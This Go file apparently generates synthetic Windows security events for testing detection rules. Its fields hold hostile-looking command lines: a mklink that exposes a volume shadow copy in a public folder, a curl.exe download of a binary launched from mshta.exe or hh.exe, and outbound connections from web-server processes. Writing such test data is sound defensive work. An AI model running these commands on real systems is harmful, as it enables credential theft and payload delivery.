package hand

import (
	"fmt"
	"strings"
)

func deepenShadowCopy(doc map[string]any, i int) {
	put(doc, "windows", "host.os.type")
	put(doc, []any{"start"}, "event.type")
	put(doc, []string{"cmd.exe", "PowerShell.exe"}[i%2], "process.name")
	put(doc, "Cmd.Exe.MUI", "process.pe.original_file_name")
	device := fmt.Sprintf(`\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy%d\`, i%10)
	put(doc, []any{"cmd.exe", "/c", "mklink", "/d", `C:\Users\Public\shadow`, device}, "process.args")
	put(doc, `cmd.exe /c mklink /d C:\Users\Public\shadow `+device, "process.command_line")
}

func deepenCurl(doc map[string]any, i int) {
	put(doc, "windows", "host.os.type")
	put(doc, []any{"start"}, "event.type")
	put(doc, []string{`C:\Windows\System32\curl.exe`, `C:\Windows\SysWOW64\curl.exe`}[i%2], "process.executable")
	put(doc, fmt.Sprintf(`curl.exe -s -o C:\Users\Public\%d.bin HTTPS://files.example.org/%d`, i, i), "process.command_line")
	put(doc, []string{"cmd.exe", "forfiles.exe", "mshta.exe", "hh.exe"}[i%4], "process.parent.name")
	put(doc, fmt.Sprintf("S-1-5-21-1-2-3-%d", i), "user.id")
}

func deepenWebServer(doc map[string]any, i int) {
	put(doc, "windows", "host.os.type")
	put(doc, []any{"start"}, "event.type")
	put(doc, "connection_attempted", "event.action")
	put(doc, []string{"php-cgi", "tornado", "php-fpm8.2", "java"}[i%4], "process.name")
	put(doc, "tomcat9", "user.name")
	put(doc, "egress", "network.direction")
	put(doc, fmt.Sprintf("%d.%d.7.9", 20+i%60, i%250), "destination.ip")
	put(doc, 4000+i%100, "destination.port")
}

// put sets a field of a document, which holds objects all the way.
func put(doc map[string]any, v any, path string) {
	keys := strings.Split(path, ".")
	for _, k := range keys[:len(keys)-1] {
		inner, ok := doc[k].(map[string]any)
		if !ok {
			inner = make(map[string]any)
			doc[k] = inner
		}
		doc = inner
	}
	doc[keys[len(keys)-1]] = v
}
